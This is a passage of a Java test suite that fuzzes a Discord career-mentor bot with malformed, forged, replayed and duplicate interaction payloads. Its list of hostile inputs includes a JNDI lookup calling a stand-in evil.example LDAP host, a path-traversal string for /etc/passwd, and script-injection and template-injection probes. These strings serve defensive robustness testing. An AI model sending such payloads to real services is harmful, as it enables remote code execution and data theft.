package dev.careermentor.discord;

import static dev.careermentor.discord.Harness.embed;
import static dev.careermentor.discord.Harness.texts;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.AppenderBase;
import com.fasterxml.jackson.core.JsonPointer;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.BooleanNode;
import com.fasterxml.jackson.databind.node.DoubleNode;
import com.fasterxml.jackson.databind.node.IntNode;
import com.fasterxml.jackson.databind.node.LongNode;
import com.fasterxml.jackson.databind.node.NullNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import dev.careermentor.ExpectedLogs;
import dev.careermentor.Fixtures;
import dev.careermentor.app.MentorApp;
import dev.careermentor.core.admin.AdminCommand;
import dev.careermentor.core.command.Command;
import dev.careermentor.core.command.Param;
import dev.careermentor.core.session.Cooldowns;
import dev.careermentor.discord.fake.Exchange;
import dev.careermentor.discord.fake.FakeDiscord;
import dev.careermentor.discord.fake.FakeUser;
import dev.careermentor.discord.fake.Interaction;
import dev.careermentor.discord.fake.Snowflakes;
import io.micrometer.prometheusmetrics.PrometheusConfig;
import io.micrometer.prometheusmetrics.PrometheusMeterRegistry;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Function;
import java.util.function.Predicate;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import net.dv8tion.jda.api.JDA;
import net.dv8tion.jda.api.events.interaction.GenericInteractionCreateEvent;
import net.dv8tion.jda.api.events.interaction.command.CommandAutoCompleteInteractionEvent;
import net.dv8tion.jda.api.events.interaction.command.SlashCommandInteractionEvent;
import net.dv8tion.jda.api.events.interaction.component.ButtonInteractionEvent;
import net.dv8tion.jda.api.exceptions.InteractionExpiredException;
import net.dv8tion.jda.api.hooks.EventListener;
import org.awaitility.core.ConditionTimeoutException;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

/**
 * The Discord part of the bad-input corpus: generated and hand-made hostile INTERACTION_CREATE payloads
 * sent through the fake gateway to the real JDA client and {@link DiscordAdapter}, on the core as
 * production wires it (real knowledge, moderation, metrics, cooldowns).
 *
 * <p>Cases go out in batches without waiting for each answer; after each batch a valid sentinel command
 * must be answered. The gateway delivers in order, so by then JDA has handled or dropped every case
 * before it. Each test starts its own bot on its own fake Discord and ends by checking its own cases:
 * every case JDA handed to the bot as a slash command, click or autocomplete got exactly one accepted
 * acknowledgement (a duplicate delivery too), nothing else got one, Discord would have refused nothing,
 * nothing can ping, every message turns mentions off, and the bot still answers correctly. Seeds are
 * fixed, so a failure reproduces.
 */
class DiscordCorpusTest {
    private static final long SEED = 0xD15C0_2DL;
    private static final int BATCH = 150;
    private static final Duration SETTLE = Duration.ofSeconds(10);
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Pattern CALLBACK = Pattern.compile("/interactions/(\\d+)/[^/]*/callback");

    /** Option values, custom ids and strings a person (or a forged client) could send. */
    static final List<String> HOSTILE = List.of(
            "",
            " ",
            "\t",
            "\u0000",
            "\u0007\u001B[31mred",
            "\r\n\r\n",
            "a\nb\nc",
            "@everyone",
            "@here",
            "@everyone serving",
            "<@123456789012345678>",
            "<@!123456789012345678>",
            "<@&456456456456456456>",
            "<#789789789789789789>",
            "<@123> <@&456> <#789> @here @everyone",
            "**serving**",
            "__*~~`serving`~~*__",
            "||spoiler||",
            "[click me](https://evil.example/)",
            "# heading",
            "-# small print",
            "> quote",
            "```code```",
            "\\",
            "\\*",
            "\"",
            "'",
            "\u202Eserving\u202C",
            "\u200Bserv\u200Ding\u200C",
            "\uFEFFserving",
            "\u2066isolate\u2069",
            "serv\u0301ing",
            "SERVİNG",
            "ſerving",
            "ｓｅｒｖｉｎｇ",
            "مرحبا",
            "שלום",
            "こんにちは",
            "🙂".repeat(60),
            "\uD800",
            "\uDFFF",
            "x".repeat(10_000),
            "serving ".repeat(1250),
            "@everyone ".repeat(1000),
            "${jndi:ldap://evil.example/a}",
            "../../../etc/passwd",
            "%s%n%s",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "null",
            "-1",
            "0",
            "9".repeat(40),
            "NaN",
            "cm1:s:salary serving",
            "/mentor salary");

    @TempDir
    Path tmp;

    private MentorApp app;
    private Harness h;
    private FakeDiscord discord;
    private final Random random = new Random(SEED);

    /** Interaction ids JDA handed to listeners as a slash command, click or autocomplete, and how often. */
    private final Map<String, AtomicInteger> answerable = new ConcurrentHashMap<>();
    /** Interaction ids JDA handed over as anything else (a modal, an unknown type). */
    private final Map<String, AtomicInteger> other = new ConcurrentHashMap<>();
    /** Every case by the id Discord knows it by; sentinels and set-up traffic are not cases. */
    private final Map<String, Interaction> sent = new LinkedHashMap<>();

    private final Set<String> tokens = new HashSet<>();
    private final Set<String> helpers = ConcurrentHashMap.newKeySet();
    private int cases;
    private int skipped;
    private int inBatch;

    /**
     * Hostile input the bot rightly cannot answer: an interaction older than Discord's 15 minutes (JDA refuses
     * to reply), or a number too large for an id (JDA cannot build the reply). One warning each, kept for the
     * tests instead of printed with its stack trace; a failure for any other reason still prints.
     */
    @RegisterExtension
    final ExpectedLogs logs = ExpectedLogs.of(
            MentorListener.class,
            Level.WARN,
            "could not be answered",
            InteractionExpiredException.class,
            NumberFormatException.class);

    private Logger jdaLog;
    private Logger ourLog;
    private final Counting jdaEvents = new Counting(false);
    private final Counting ourEvents = new Counting(true);

    // ---- set-up

    @BeforeEach
    void start() throws Exception {
        Path knowledge = Files.createDirectories(tmp.resolve("knowledge"));
        try (Stream<Path> files = Files.list(Fixtures.knowledgeDir())) {
            for (Path f : files.filter(Files::isRegularFile).toList())
                Files.copy(f, knowledge.resolve(f.getFileName()));
        }
        app = Harness.ROOT
                .app(Fixtures.real())
                .metrics(new PrometheusMeterRegistry(PrometheusConfig.DEFAULT))
                .cooldowns(Cooldowns.Settings.DEFAULT)
                .moderation(knowledge, tmp.resolve("data"), null)
                .build();
        h = Harness.startWithModeratorRole(app.mentor());
        discord = h.discord;
        h.adapter.jda().addEventListener((EventListener) event -> {
            if (!(event instanceof GenericInteractionCreateEvent e)) return;
            boolean ours = e instanceof SlashCommandInteractionEvent
                    || e instanceof ButtonInteractionEvent
                    || e instanceof CommandAutoCompleteInteractionEvent;
            (ours ? answerable : other)
                    .computeIfAbsent(e.getInteraction().getId(), k -> new AtomicInteger())
                    .incrementAndGet();
        });
        // JDA logs every payload it cannot parse as an error with a stack trace; count them instead.
        jdaLog = (Logger) LoggerFactory.getLogger("net.dv8tion.jda");
        jdaLog.setAdditive(false);
        jdaLog.addAppender(jdaEvents);
        jdaEvents.start();
        ourLog = (Logger) LoggerFactory.getLogger("dev.careermentor");
        ourLog.addAppender(ourEvents);
        ourEvents.start();
    }

    @AfterEach
    void stop() throws Exception {
        try {
            if (jdaLog != null) {
                jdaLog.detachAppender(jdaEvents);
                jdaLog.setAdditive(true);
            }
            if (ourLog != null) ourLog.detachAppender(ourEvents);
        } finally {
            if (h != null) h.close();
            if (app != null) app.close();
        }
    }

    // ---- the cases

    @Test
    void everyFieldOfASlashCommandRemovedOrOfTheWrongType() throws Exception {
        mutateEveryField(
                "slash",
                () -> discord.prepareCommand(
                        user(), discord.guildId, "salary", Map.of("name", "serving", "level", "senior"), null),
                p -> true);
        mutateEveryField(
                "slash in a DM",
                () -> discord.prepareCommand(
                        user(), null, "compare", Map.of("first", "applied", "second", "serving"), null),
                p -> true);
        mutateEveryField(
                "slash on a server the bot is not in",
                () -> discord.prepareCommand(
                        user(), discord.otherGuildId, "specialization", Map.of("name", "mlops"), null),
                p -> p.startsWith("/data") || p.startsWith("/guild") || p.startsWith("/member/user"));
        mutateEveryField(
                "mentor-admin",
                () -> discord.prepareSlashAs(
                        user(),
                        "mentor-admin",
                        "history",
                        Map.of("n", "3"),
                        FakeDiscord.MANAGE_SERVER,
                        List.of(discord.moderatorRoleId)),
                p -> p.startsWith("/data") || p.startsWith("/member"));
        assertEveryCaseAnsweredOnceAndTheBotStillAnswers("slash command fields", 1500);
    }

    @Test
    void everySubcommandWithHostileOptions() throws Exception {
        for (Command c : app.mentor().commands()) {
            Map<String, String> valid = new LinkedHashMap<>();
            for (Param p : c.params()) valid.put(p.name(), valid(p));
            send(discord.prepareCommand(user(), discord.guildId, c.name(), valid, null));
            send(discord.prepareCommand(user(), discord.guildId, c.name(), Map.of(), null)); // required ones missing
            for (Param p : c.params()) {
                for (String bad : HOSTILE) {
                    Map<String, String> options = new LinkedHashMap<>(valid);
                    options.put(p.name(), bad);
                    send(discord.prepareCommand(user(), discord.guildId, c.name(), options, null));
                }
                for (Function<JsonNode, JsonNode> value : wrongValues()) {
                    Interaction i = discord.prepareCommand(user(), discord.guildId, c.name(), valid, null);
                    for (JsonNode o : i.payload().at("/data/options/0/options")) {
                        if (o.path("name").asText().equals(p.name())) ((ObjectNode) o).set("value", value.apply(o));
                    }
                    send(i);
                }
            }
            optionShapes(c.name(), valid);
        }
        for (AdminCommand c : app.mentor().adminCommands()) {
            Map<String, String> valid = new LinkedHashMap<>();
            for (Param p : c.params()) valid.put(p.name(), "3");
            // Read-only for a moderator; everything (reload included) is refused to a plain member.
            if (!c.name().equals("reload")) {
                send(discord.prepareSlashAs(
                        user(), "mentor-admin", c.name(), valid, FakeDiscord.MANAGE_SERVER, List.of()));
            }
            send(discord.prepareSlashAs(user(), "mentor-admin", c.name(), valid, 0, List.of()));
            for (Param p : c.params()) {
                for (String bad : HOSTILE) {
                    Map<String, String> options = new LinkedHashMap<>(valid);
                    options.put(p.name(), bad);
                    send(discord.prepareSlashAs(
                            user(), "mentor-admin", c.name(), options, 0, List.of(discord.moderatorRoleId)));
                }
            }
        }
        assertEveryCaseAnsweredOnceAndTheBotStillAnswers("subcommands", 950);
    }

    @Test
    void unknownCommandsSubcommandsAndOptions() throws Exception {
        for (String sub : List.of(
                "nope",
                "SALARY",
                "salary ",
                "",
                "x".repeat(200),
                "../admin",
                "reload",
                "mentor",
                "@everyone",
                "\u202Ehelp")) {
            send(discord.prepareCommand(user(), discord.guildId, sub, Map.of("name", "serving"), null));
        }
        for (String name : List.of("mentor-admin", "other", "", "MENTOR", "x".repeat(5000), "@here")) {
            Interaction i = discord.prepareCommand(user(), discord.guildId, "help", Map.of(), null);
            ((ObjectNode) i.payload().path("data")).put("name", name);
            send(i);
        }
        for (String option : List.of("nope", "NAME", "", "x".repeat(10_000), "<@123>", "level")) {
            send(discord.prepareCommand(user(), discord.guildId, "specialization", Map.of(option, "serving"), null));
            send(discord.prepareCommand(
                    user(),
                    discord.guildId,
                    "specialization",
                    Map.of("name", "serving", option.isEmpty() ? "z" : option, "senior"),
                    null));
        }
        // No subcommand at all, two subcommands, a subcommand group, a subcommand without options.
        Interaction none = discord.prepareCommand(user(), discord.guildId, "help", Map.of(), null);
        ((ObjectNode) none.payload().path("data")).set("options", JSON.createArrayNode());
        send(none);
        Interaction two = discord.prepareCommand(user(), discord.guildId, "help", Map.of(), null);
        ((ArrayNode) two.payload().at("/data/options"))
                .add(two.payload().at("/data/options/0").deepCopy());
        send(two);
        Interaction group = discord.prepareCommand(user(), discord.guildId, "salary", Map.of("name", "serving"), null);
        ObjectNode sub = (ObjectNode) group.payload().at("/data/options/0");
        ObjectNode wrapper = JSON.createObjectNode().put("type", 2).put("name", "group");
        wrapper.set("options", JSON.createArrayNode().add(sub.deepCopy()));
        ((ArrayNode) group.payload().at("/data/options")).set(0, wrapper);
        send(group);
        Interaction bare = discord.prepareCommand(user(), discord.guildId, "salary", Map.of(), null);
        ((ObjectNode) bare.payload().at("/data/options/0")).remove("options");
        send(bare);
        // Other interaction and command types: user and message context menus, a modal, a ping, unknown.
        for (int type : new int[] {1, 5, 0, 99, -1}) {
            Interaction i = discord.prepareCommand(user(), discord.guildId, "help", Map.of(), null);
            ((ObjectNode) i.payload()).put("type", type);
            send(i);
        }
        for (int type : new int[] {2, 3, 4, 0}) {
            Interaction i = discord.prepareCommand(user(), discord.guildId, "help", Map.of(), null);
            ((ObjectNode) i.payload().path("data")).put("type", type);
            send(i);
        }
        assertEveryCaseAnsweredOnceAndTheBotStillAnswers("unknown commands", 40);
    }

    @Test
    void autocompleteWithHostileInput() throws Exception {
        mutateEveryField(
                "autocomplete",
                () -> discord.prepareCommand(
                        user(), discord.guildId, "compare", Map.of("first", "applied", "second", "serv"), "second"),
                p -> p.startsWith("/data") || p.equals("/type") || p.startsWith("/member/user"));
        for (Command c : app.mentor().commands()) {
            for (Param p : c.params()) {
                for (String bad : HOSTILE) {
                    send(discord.prepareCommand(user(), discord.guildId, c.name(), Map.of(p.name(), bad), p.name()));
                }
                send(discord.prepareCommand(user(), discord.guildId, c.name(), Map.of(p.name(), "x"), "nope"));
            }
        }
        // The focused option given as another option type: Discord would only do this for a stale client.
        for (int type : new int[] {4, 5, 10, 99}) {
            Interaction i =
                    discord.prepareCommand(user(), discord.guildId, "specialization", Map.of("name", "se"), "name");
            ((ObjectNode) i.payload().at("/data/options/0/options/0")).put("type", type);
            send(i);
        }
        Interaction twoFocused = discord.prepareCommand(
                user(), discord.guildId, "compare", Map.of("first", "app", "second", "ser"), "first");
        for (JsonNode o : twoFocused.payload().at("/data/options/0/options")) ((ObjectNode) o).put("focused", true);
        send(twoFocused);
        assertEveryCaseAnsweredOnceAndTheBotStillAnswers("autocomplete", 800);
    }

    @Test
    void buttonsWithEveryFieldSpoiled() throws Exception {
        mutateEveryField(
                "quiz click",
                () -> {
                    Quiz q = ownedQuiz();
                    return discord.prepareClick(q.owner, q.message, q.choice);
                },
                p -> !p.startsWith("/message/embeds")
                        && !p.startsWith("/message/author")
                        && !p.matches("/message/components/\\d+/components/[1-9].*")
                        && !p.startsWith("/guild/features")
                        && !p.startsWith("/channel/permission_overwrites")
                        && !p.matches("/member/(roles|avatar|premium_since|deaf|mute|pending|flags|joined_at)"));
        Answer a = answer("salary", Map.of("name", "mlops"));
        for (String label : List.of("Share to channel", "Outdated?")) {
            String id = Harness.button(discord.rest().message(a.message), label);
            mutateEveryField(
                    label + " click", () -> discord.prepareClick(user(), a.message, id), p -> p.startsWith("/data"));
        }
        assertEveryCaseAnsweredOnceAndTheBotStillAnswers("button fields", 800);
    }

    @Test
    void customIdsTruncatedForgedForeignAndOversized() throws Exception {
        Answer salary = answer("salary", Map.of("name", "serving", "level", "senior"));
        Answer suggestions = answer("specialization", Map.of("name", "servng"));
        List<String> ids = new ArrayList<>();
        ids.addAll(Harness.customIds(discord.rest().message(salary.message)));
        ids.addAll(Harness.customIds(discord.rest().message(suggestions.message)));
        assertTrue(ids.stream().anyMatch(id -> id.startsWith("cm1:s:")), "a Share button: " + ids);
        assertTrue(ids.stream().anyMatch(id -> id.startsWith("cm1:o:")), "an Outdated? button: " + ids);
        assertTrue(ids.stream().anyMatch(id -> id.startsWith("cm1:r:")), "a suggestion to run: " + ids);

        // Truncated at every length, clicked by their owner and by someone else.
        Quiz q = quiz();
        List<String> all = new ArrayList<>(ids);
        all.add(q.choice);
        all.add(q.cancel);
        for (String id : all) {
            for (int n = 0; n < id.length(); n++) {
                boolean quizId = id.startsWith("cm1:q:");
                if (quizId && n % 2 == 1) continue; // the quiz ids are long; every other length is enough
                clickOn(quizId ? q : null, salary.message, id.substring(0, n));
            }
        }
        // Over 100 characters, up to 10,000.
        for (String id : all) {
            for (int extra : new int[] {1, 60, 400, 10_000 - id.length()}) {
                clickOn(id.startsWith("cm1:q:") ? q : null, salary.message, id + "x".repeat(extra));
            }
        }
        // Forged: another version, each part of a quiz id replaced, hostile text in any id.
        String[] parts = q.choice.split(":", -1);
        for (String version : List.of("cm0", "cm2", "cm9", "CM1", "cm", "cm1 ", "xx1", "")) {
            parts[0] = version;
            clickOn(q, q.message, String.join(":", parts));
            parts = q.choice.split(":", -1);
        }
        for (int part = 1; part < parts.length; part++) {
            for (String bad : List.of(
                    "",
                    "x",
                    "AAAAAAAA",
                    "Zz9_-Zz9_-Zz9_-Zz",
                    "999999999",
                    "0123456789",
                    "a9",
                    "a",
                    "b",
                    "c",
                    "r",
                    "s",
                    "@everyone",
                    "<@123>",
                    "../",
                    "\u202E",
                    "\u0000",
                    ":")) {
                String[] forged = q.choice.split(":", -1);
                forged[part] = bad;
                clickOn(q, q.message, String.join(":", forged));
            }
        }
        for (String kind : List.of("s", "r", "o", "q", "x", "")) {
            for (String bad : HOSTILE) {
                if (bad.length() > 200) continue;
                clickOn(null, salary.message, "cm1:" + kind + ":" + bad);
            }
        }
        for (String bad : List.of(
                "cm1:r:become all",
                "cm1:r:quiz",
                "cm1:r:ask @everyone",
                "cm1:s:become all",
                "cm1:s:salary",
                "cm1:s:quiz",
                "cm1:r:mentor-admin reload",
                "cm1:r:reload",
                "cm1:o:nope:2026",
                "cm1:o:six-specializations:1999",
                "cm1:o:" + "a:2026,".repeat(12) + "a:2026",
                "cm1:o:a:2026-13-45")) {
            clickOn(null, salary.message, bad);
        }
        for (String bad : HOSTILE) clickOn(null, salary.message, bad);

        // Another user's quiz, at every step; and a quiz id with someone else's owner hash.
        Quiz other = quiz();
        for (String id : Harness.customIds(discord.rest().message(other.message))) {
            send(discord.prepareClick(user(), other.message, id));
            send(discord.prepareClick(q.owner, other.message, id));
        }
        String[] theirs = other.choice.split(":", -1);
        String[] mine = q.choice.split(":", -1);
        mine[3] = theirs[3];
        clickOn(q, q.message, String.join(":", mine));
        // The id of one message clicked on another.
        send(discord.prepareClick(q.owner, salary.message, q.choice));
        send(discord.prepareClick(user(), q.message, ids.get(0)));
        assertEveryCaseAnsweredOnceAndTheBotStillAnswers("custom ids", 570);
    }

    @Test
    void staleAndDuplicateInteractions() throws Exception {
        long now = System.currentTimeMillis();
        long[] ages = {
            5_000,
            60_000,
            Duration.ofMinutes(16).toMillis(),
            Duration.ofDays(400).toMillis()
        };
        for (long age : ages) {
            for (String sub : List.of("help", "become", "quiz")) {
                Interaction fresh = discord.prepareCommand(
                        user(), discord.guildId, sub, sub.equals("become") ? Map.of("part", "all") : Map.of(), null);
                String old = oldSnowflake(now - age);
                ((ObjectNode) fresh.payload()).put("id", old);
                send(new Interaction(old, fresh.token(), fresh.payload()));
            }
            Quiz q = quiz();
            Interaction click = discord.prepareClick(q.owner, q.message, q.choice);
            String old = oldSnowflake(now - age);
            ((ObjectNode) click.payload()).put("id", old);
            send(new Interaction(old, click.token(), click.payload()));
        }
        Interaction ancient = discord.prepareCommand(user(), discord.guildId, "help", Map.of(), null);
        ((ObjectNode) ancient.payload()).put("id", "1");
        send(new Interaction("1", ancient.token(), ancient.payload()));

        // The same interaction delivered twice or three times, back to back and after others.
        Quiz q = quiz();
        Answer salary = answer("salary", Map.of("name", "serving"));
        String share = Harness.button(discord.rest().message(salary.message), "Share to channel");
        List<Supplier<Interaction>> kinds = List.of(
                () -> discord.prepareCommand(user(), discord.guildId, "salary", Map.of("name", "serving"), null),
                () -> discord.prepareCommand(user(), null, "help", Map.of(), null),
                () -> discord.prepareCommand(user(), discord.guildId, "become", Map.of("part", "all"), null),
                () -> discord.prepareCommand(user(), discord.guildId, "specialization", Map.of("name", "se"), "name"),
                () -> discord.prepareClick(q.owner, q.message, q.choice),
                () -> discord.prepareClick(user(), salary.message, share));
        for (Supplier<Interaction> kind : kinds) {
            Interaction twice = kind.get();
            send(twice);
            send(twice);
            Interaction thrice = kind.get();
            send(thrice);
            send(discord.prepareCommand(user(), discord.guildId, "paths", Map.of(), null));
            send(thrice);
            send(thrice);
        }
        assertEveryCaseAnsweredOnceAndTheBotStillAnswers("stale and duplicate", 50);
        List<ExpectedLogs.Event> expired = logs.events();
        assertFalse(expired.isEmpty(), "an interaction older than 15 minutes cannot be answered, and says so");
        assertTrue(expired.stream().allMatch(e -> e.causedBy(InteractionExpiredException.class)), expired.toString());
    }

    @Test
    void randomMutationsOfValidInteractions() throws Exception {
        // Several spoiled fields at once, chosen by the fixed seed.
        Quiz q = quiz();
        List<Supplier<Interaction>> bases = List.of(
                () -> discord.prepareCommand(
                        user(), discord.guildId, "switch", Map.of("from", "backend", "to", "serving"), null),
                () -> discord.prepareCommand(user(), null, "ask", Map.of("question", "how do I start"), null),
                () -> discord.prepareCommand(user(), discord.guildId, "path", Map.of("name", "res"), "name"),
                () -> discord.prepareClick(user(), q.message, q.choice));
        List<Op> ops = ops();
        for (int n = 0; n < 400; n++) {
            Interaction i = bases.get(n % bases.size()).get();
            List<String> paths = paths(i.payload(), "", p -> !p.startsWith("/message/embeds"));
            paths.removeIf(p -> p.equals("/id") || p.equals("/token"));
            int spoiled = 1 + random.nextInt(4);
            for (int k = 0; k < spoiled; k++) {
                String path = paths.get(random.nextInt(paths.size()));
                if (i.payload().at(path).isMissingNode()) continue;
                apply((ObjectNode) i.payload(), path, ops.get(random.nextInt(ops.size())));
            }
            sendOrSkip(identity(i));
        }
        assertEveryCaseAnsweredOnceAndTheBotStillAnswers("random mutations", 400);
    }

    /**
     * What every test checks once its cases are sent: JDA is still on its one gateway session, every case
     * it handed to the bot was acknowledged exactly once and nothing else was, nothing public but a Share,
     * nothing that can ping, no error logged, nothing Discord would refuse, and the bot still answers
     * correctly; and the test sent at least {@code atLeast} cases.
     */
    private void assertEveryCaseAnsweredOnceAndTheBotStillAnswers(String what, int atLeast) throws Exception {
        flush();
        JDA jda = h.adapter.jda();
        assertEquals(JDA.Status.CONNECTED, jda.getStatus(), "JDA is still connected");
        assertTrue(h.adapter.ready(), "the adapter still reports ready");
        assertEquals(
                1,
                discord.gateway().received().stream().filter("IDENTIFY"::equals).count(),
                "one gateway session throughout: nothing made JDA reconnect");
        assertFalse(discord.gateway().received().contains("RESUME"), "no resume either");

        Interaction salary = discord.slash(user(), "salary", Map.of("name", "serving", "level", "senior"));
        helpers.add(salary.id());
        Exchange answer = discord.callback(salary);
        assertEquals(200, answer.status(), answer.toString());
        assertEquals(4, answer.body().path("type").asInt());
        assertEquals(
                "Inference / serving engineer: pay", embed(answer).path("title").asText());
        assertTrue(texts(embed(answer)).contains("$300K–$600K"), texts(embed(answer)));
        Quiz q = quiz();
        Interaction click = discord.click(q.owner, q.message, q.choice);
        helpers.add(click.id());
        Exchange step = discord.callback(click);
        assertEquals(7, step.body().path("type").asInt(), "the quiz still advances in place");
        assertTrue(
                embed(step).path("title").asText().endsWith("question 2 of 5"),
                embed(step).toString());

        // Every case JDA handed to the bot was acknowledged exactly once, and nothing else was.
        // Wait for the last acknowledgements; what is still missing then is listed below.
        try {
            await().atMost(SETTLE).until(() -> allAcknowledged(callbacks()));
        } catch (ConditionTimeoutException stillMissing) {
            // listed below, with what each missing case was
        }
        Map<String, List<Exchange>> callbacks = callbacks();
        List<String> problems = new ArrayList<>();
        for (Map.Entry<String, AtomicInteger> e : answerable.entrySet()) {
            if (helpers.contains(e.getKey())) continue;
            if (!sent.containsKey(e.getKey())) problems.add("JDA delivered an id no case had: " + e.getKey());
            List<Exchange> got = callbacks.getOrDefault(e.getKey(), List.of());
            if (got.size() != 1 || got.get(0).status() / 100 != 2) {
                problems.add(e.getKey() + " delivered " + e.getValue() + "x, acknowledged " + got + " for "
                        + abbreviated(sent.get(e.getKey())));
            }
        }
        for (Map.Entry<String, List<Exchange>> e : callbacks.entrySet()) {
            if (!answerable.containsKey(e.getKey())) {
                problems.add("acknowledged without being delivered: " + e.getKey() + " " + e.getValue());
            }
        }
        // Only a Share click posts for everyone; nothing the bot shows can even render as a mention.
        for (Exchange e : discord.rest().exchanges()) {
            JsonNode m = e.message();
            if (m == null || !m.has("embeds")) continue;
            boolean publicPost = (e.path().startsWith("/interactions/")
                                    && e.body().path("type").asInt() == 4
                            || e.method().equals("POST") && e.path().startsWith("/webhooks/"))
                    && (m.path("flags").asInt(0) & 64) == 0;
            if (publicPost) {
                Matcher cb = CALLBACK.matcher(e.path());
                Interaction i = cb.matches() ? sent.get(cb.group(1)) : null;
                String customId =
                        i == null ? "" : i.payload().at("/data/custom_id").asText("");
                if (i != null && !customId.matches("cm1:(s:.*|q:.*:s)")) {
                    problems.add("a public post that is not a Share: " + e);
                }
            }
            for (JsonNode embed : m.path("embeds")) {
                String shown = texts(embed);
                if (shown.contains("@everyone")
                        || shown.contains("@here")
                        || shown.contains("<@")
                        || shown.contains("<#")) {
                    problems.add("mention syntax shown as is: " + abbreviated(e.toString()));
                }
            }
        }
        for (String v : discord.violations()) problems.add("violation: " + v);
        for (String error : ourEvents.errors) problems.add("the bot logged an error: " + error);
        String tally = cases + " cases (" + skipped + " skipped as contradictory), " + answerable.size()
                + " taken by the bot, " + other.size() + " other interaction types, " + jdaEvents.count.get()
                + " JDA log events (mostly unreadable payloads), " + ourEvents.warnings.get() + " warnings logged";
        assertTrue(
                problems.isEmpty(),
                tally + "; " + problems.size() + " problems:\n"
                        + String.join("\n", problems.subList(0, Math.min(60, problems.size()))));
        h.assertCleanTraffic();
        System.out.println("discord corpus, " + what + ": " + tally);
        assertTrue(cases >= atLeast, "at least " + atLeast + " cases: " + cases);
    }

    // ---- building cases

    /** Every field of the payload from {@code base}, removed or replaced by each wrong value in turn. */
    private void mutateEveryField(String what, Supplier<Interaction> base, Predicate<String> walkInto)
            throws InterruptedException {
        List<String> paths = paths(base.get().payload(), "", walkInto);
        assertFalse(paths.isEmpty(), what + ": no field to spoil");
        for (String path : paths) {
            for (Op op : ops()) {
                Interaction i = base.get();
                apply((ObjectNode) i.payload(), path, op);
                sendOrSkip(identity(i));
            }
        }
    }

    /** Option entries of the wrong shape: no value, no name, another type, or not an object. */
    private void optionShapes(String sub, Map<String, String> valid) throws InterruptedException {
        if (valid.isEmpty()) return;
        String first = valid.keySet().iterator().next();
        List<java.util.function.Consumer<ObjectNode>> shapes = List.of(
                o -> o.remove("value"),
                o -> o.remove("name"),
                o -> o.remove("type"),
                o -> o.put("type", 4),
                o -> o.put("type", 5),
                o -> o.put("type", 6),
                o -> o.put("type", 99),
                o -> o.put("focused", true),
                o -> o.put("name", 42),
                o -> o.set("type", JSON.createArrayNode()));
        for (var shape : shapes) {
            Interaction i = discord.prepareCommand(user(), discord.guildId, sub, valid, null);
            for (JsonNode o : i.payload().at("/data/options/0/options")) {
                if (o.path("name").asText().equals(first)) shape.accept((ObjectNode) o);
            }
            send(i);
        }
        Interaction notObject = discord.prepareCommand(user(), discord.guildId, sub, valid, null);
        ((ArrayNode) notObject.payload().at("/data/options/0/options"))
                .add("serving")
                .add(42)
                .addNull();
        send(notObject);
    }

    private static List<Function<JsonNode, JsonNode>> wrongValues() {
        return List.of(
                o -> IntNode.valueOf(42),
                o -> DoubleNode.valueOf(-1.5e300),
                o -> BooleanNode.TRUE,
                o -> NullNode.instance,
                o -> JSON.createArrayNode().add("serving"),
                o -> JSON.createObjectNode().put("value", "serving"));
    }

    private static String valid(Param p) {
        return switch (p.type()) {
            case SPECIALIZATION -> "serving";
            case PATH -> "research";
            case ORIGIN -> "backend";
            case TOPIC -> "become";
            case LEVEL -> "senior";
            case SECTION -> "all";
            case TEXT -> "how much do mlops engineers earn";
        };
    }

    /** A wrong value for a field; null removes it. */
    private record Op(String name, Function<JsonNode, JsonNode> value) {}

    private static List<Op> ops() {
        return List.of(
                new Op("removed", v -> null),
                new Op("null", v -> NullNode.instance),
                // A snowflake as a number means the same id; anything else becomes a small number.
                new Op(
                        "number",
                        v -> v.isTextual() && v.asText().matches("\\d{15,19}")
                                ? LongNode.valueOf(Long.parseLong(v.asText()))
                                : IntNode.valueOf(42)),
                new Op("huge number", v -> DoubleNode.valueOf(-1.5e300)),
                new Op("empty string", v -> TextNode.valueOf("")),
                new Op("10k string", v -> TextNode.valueOf("x".repeat(10_000))),
                new Op("hostile string", v -> TextNode.valueOf("@everyone <@123> <@&456> <#789> \u202E**x**\u200B")),
                new Op("boolean", v -> BooleanNode.TRUE),
                new Op("array", v -> JSON.createArrayNode().add("x")),
                new Op("object", v -> JSON.createObjectNode().put("x", 1)));
    }

    /** JSON pointers to every value in {@code node}, descending where {@code walkInto} allows. */
    private static List<String> paths(JsonNode node, String at, Predicate<String> walkInto) {
        List<String> out = new ArrayList<>();
        if (node.isObject()) {
            node.fieldNames().forEachRemaining(k -> {
                String p = at + "/" + k;
                if (!walkInto.test(p)) return;
                out.add(p);
                out.addAll(paths(node.get(k), p, walkInto));
            });
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                String p = at + "/" + i;
                if (!walkInto.test(p)) continue;
                out.add(p);
                out.addAll(paths(node.get(i), p, walkInto));
            }
        }
        return out;
    }

    private void apply(ObjectNode root, String path, Op op) {
        JsonPointer pointer = JsonPointer.compile(path);
        JsonNode parent = root.at(pointer.head());
        JsonNode value = op.value().apply(root.at(pointer));
        if (parent instanceof ObjectNode o) {
            String key = pointer.last().getMatchingProperty();
            if (value == null) o.remove(key);
            else o.set(key, value);
        } else if (parent instanceof ArrayNode a) {
            int index = pointer.last().getMatchingIndex();
